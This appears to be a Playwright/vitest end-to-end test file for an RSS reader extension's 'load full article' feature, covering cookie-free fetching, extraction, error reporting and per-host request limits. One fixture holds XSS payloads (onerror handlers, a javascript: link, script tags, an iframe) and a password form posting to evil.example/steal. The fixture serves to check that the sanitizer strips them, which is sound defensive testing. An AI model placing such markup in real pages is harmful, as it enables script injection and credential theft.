/**
 * Full articles in real Chromium: "Load full article" fetches the post's page (no cookies,
 * one request per host), extracts the article in the offscreen document and shows it
 * sanitized; a failure says why and keeps the summary; "always load full articles" loads a
 * feed's new posts with no click; the article is stored and searchable.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { articlePage } from '../fixtures/articles/article-pages';
import type { FixtureServer } from '../server/fixture-server.mjs';
import { sendFromPage } from './helpers';
import { closeAll, launchWithFixtures, type Orrery } from './launch';

let server: FixtureServer;
let orrery: Orrery;

const serve = (type: string, body: string | Buffer) => (_req: IncomingMessage, res: ServerResponse) => void res.writeHead(200, { 'Content-Type': type }).end(body);
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAAEUlEQVR4nGNgYGD4z8DAwMAAAA0AAbxW2wsAAAAASUVORK5CYII=', 'base64');

const KNOWN = 'Kepler noticed that the planets sweep equal areas in equal times';
const paragraphs = (topic: string, n: number) =>
  Array.from({ length: n }, (_, i) => `<p>${i === 0 ? `${KNOWN}. ` : ''}Paragraph ${i + 1} about ${topic}: the long patient work of watching the night sky, measuring, and writing down what moved and when, night after night.</p>`).join('');

const SUMMARIES = 'http://summaries.example/feed.xml';
const ORBITS = 'http://summaries.example/2026/orbits/';
const MISSING = 'http://summaries.example/2026/missing/';
const HOSTILE = 'http://summaries.example/2026/hostile/';
const IMAGE = 'http://summaries.example/img/orbit.png';
const ALWAYS = 'http://always.example/feed.xml';
const alwaysPost = (n: number) => `http://always.example/posts/${n}/`;

const item = (title: string, link: string, day: number, summary: string) =>
  `<item><title>${title}</title><link>${link}</link><guid>${link}</guid><pubDate>${new Date(Date.UTC(2026, 5, day, 8)).toUTCString()}</pubDate><description>${summary}</description></item>`;
const rss = (title: string, items: string[]) => `<?xml version="1.0"?><rss version="2.0"><channel><title>${title}</title><link>http://${title.toLowerCase()}.example/</link>${items.join('')}</channel></rss>`;

const HOSTILE_BODY = `${paragraphs('hostile pages', 6)}
<p>Payloads follow.<img src="/img/orbit.png" onerror="window.top.__pwned = 1" alt="x"></p>
<p><a href="javascript:window.top.__pwned=2">a javascript link</a> <a href="/fine">a fine link</a></p>
<iframe src="http://evil.example/frame"></iframe><form action="http://evil.example/steal"><input name="password"><button>Log in</button></form>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">covering overlay text</p>
<svg><script>window.top.__pwned = 3</script></svg><script>window.top.__pwned = 4</script>`;

beforeAll(async () => {
  ({ server, orrery } = await launchWithFixtures());
  server.overrides.set(SUMMARIES, serve('application/rss+xml', rss('Summaries', [
    item('Orbits, in full', ORBITS, 3, 'Only the first lines of the orbits post.'),
    item('A missing page', MISSING, 2, 'The summary of a post whose page is gone.'),
    item('A hostile page', HOSTILE, 1, 'The summary of a hostile post.'),
  ])));
  server.overrides.set(ORBITS, serve('text/html; charset=utf-8', articlePage('wordpress', { title: 'Orbits, in full', html: `${paragraphs('orbits', 8)}<figure><img src="${IMAGE}" alt="An orbit"></figure>` }, ORBITS)));
  server.overrides.set(HOSTILE, serve('text/html', articlePage('hugo', { title: 'A hostile page', html: HOSTILE_BODY }, HOSTILE)));
  server.overrides.set(IMAGE, serve('image/png', PNG));
  server.overrides.set(ALWAYS, serve('application/rss+xml', rss('Always', [1, 2].map((n) => item(`Always post ${n}`, alwaysPost(n), n, `Always summary ${n}.`)))));
  for (const n of [1, 2]) server.overrides.set(alwaysPost(n), serve('text/html', articlePage('ghost', { title: `Always post ${n}`, html: paragraphs(`always number ${n}`, 7) }, alwaysPost(n))));
  await orrery.context.addCookies([{ name: 'session', value: 'secret', url: 'http://summaries.example/' }]);
  const home = await orrery.open('/options.html');
  for (const url of [SUMMARIES, ALWAYS]) expect(await sendFromPage<{ ok: boolean }>(home, { type: 'subscribe', url })).toMatchObject({ ok: true });
  await home.close();
});

afterAll(() => closeAll({ orrery, server }));

const entry = (page: Page, title: string) => page.getByTestId('entry').filter({ has: page.getByTestId('entry-title').getByText(title, { exact: true }) });
const requests = (url: string) => server.log.filter((r) => r.url === url);

async function timeline(): Promise<Page> {
  const page = await orrery.open('/timeline.html');
  await page.evaluate(() => localStorage.setItem('orrery.view', 'full'));
  await page.reload();
  return page;
}

describe('full articles', () => {
  it('"Load full article" shows the extracted article, fetched once without cookies, images repaired', async () => {
    const page = await timeline();
    const post = entry(page, 'Orbits, in full');
    await expect.poll(() => post.getByTestId('entry-content').innerText()).toContain('Only the first lines');
    await post.getByTestId('entry-fulltext').click();
    await expect.poll(() => post.getByTestId('entry-content').innerText()).toContain(KNOWN);
    const text = await post.getByTestId('entry-content').innerText();
    expect(text).toContain('Paragraph 8 about orbits');
    // The blog's chrome is left out.
    for (const chrome of ['Recent posts from this blog', 'Leave a reply', 'Proudly powered by WordPress']) expect(text).not.toContain(chrome);
    // The lazy (Jetpack) image is the real one, absolute, and it loads.
    const img = post.getByTestId('entry-content').locator(`img[src="${IMAGE}"]`);
    await expect.poll(() => img.evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth)).toBe(2);
    const asked = requests(ORBITS);
    expect(asked).toHaveLength(1);
    expect(asked[0]?.cookie).toBeUndefined();
    await expect.poll(() => post.getByTestId('entry-fulltext').count()).toBe(0);
    // Stored: a new page shows the article, and search finds words only the article has.
    const again = await timeline();
    await expect.poll(() => entry(again, 'Orbits, in full').getByTestId('entry-content').innerText()).toContain(KNOWN);
    await again.getByTestId('search-input').fill('kepler sweep equal areas');
    await expect.poll(() => again.getByTestId('entry').count()).toBe(1);
    expect(await again.getByTestId('entry-title').innerText()).toBe('Orbits, in full');
    expect(requests(ORBITS)).toHaveLength(1);
    await Promise.all([page.close(), again.close()]);
  });

  it('a failed extraction says why and keeps the summary', async () => {
    const page = await timeline();
    const post = entry(page, 'A missing page');
    await post.getByTestId('entry-fulltext').click();
    await expect.poll(() => post.getByTestId('entry-fulltext-error').innerText()).toContain('HTTP 404');
    expect(await post.getByTestId('entry-content').innerText()).toContain('The summary of a post whose page is gone.');
    // The reason is stored with the post: a new page says it too.
    const again = await timeline();
    await expect.poll(() => entry(again, 'A missing page').getByTestId('entry-fulltext-error').innerText()).toContain('HTTP 404');
    await Promise.all([page.close(), again.close()]);
  });

  it('a hostile page\'s article is shown through the one sanitizer', async () => {
    const page = await timeline();
    const post = entry(page, 'A hostile page');
    await post.getByTestId('entry-fulltext').click();
    const content = post.getByTestId('entry-content');
    await expect.poll(() => content.innerText()).toContain('Paragraph 6 about hostile pages');
    const found = await content.evaluate((el) => ({
      handlers: el.querySelectorAll('[onerror], [onload], [onclick]').length,
      scripts: el.querySelectorAll('script, iframe, form, input, svg, style').length,
      jsLinks: [...el.querySelectorAll('a')].filter((a) => !/^https?:/.test(a.getAttribute('href') ?? 'https:')).length,
      styled: el.querySelectorAll('[style]').length,
      fine: el.querySelector('a[href="http://summaries.example/fine"]') !== null,
    }));
    expect(found).toEqual({ handlers: 0, scripts: 0, jsLinks: 0, styled: 0, fine: true });
    // The image (whose handler would have run on error) loaded or failed: no payload ran.
    await expect.poll(() => content.locator('img').first().evaluate((i: HTMLImageElement) => i.complete)).toBe(true);
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    await page.close();
  });

  it('"always load full articles" loads a feed\'s posts with no click, one request at a time per host', async () => {
    expect(requests(alwaysPost(1))).toHaveLength(0);
    const options = await orrery.open('/options.html');
    const row = options.locator(`[data-testid="subscription"][data-feed-url="${ALWAYS}"]`);
    const box = row.getByTestId('subscription-fulltext');
    expect(await box.isChecked()).toBe(false);
    await box.check();
    await expect.poll(() => requests(alwaysPost(1)).length + requests(alwaysPost(2)).length).toBe(2);
    expect(server.log.filter((r) => r.host === 'always.example').every((r) => r.concurrentOnHost === 1)).toBe(true);
    const page = await timeline();
    for (const n of [1, 2]) await expect.poll(() => entry(page, `Always post ${n}`).getByTestId('entry-content').innerText()).toContain(`Paragraph 7 about always number ${n}`);
    // The setting is kept.
    await options.reload();
    await expect.poll(() => options.locator(`[data-testid="subscription"][data-feed-url="${ALWAYS}"]`).getByTestId('subscription-fulltext').isChecked()).toBe(true);
    await Promise.all([page.close(), options.close()]);
  });
});
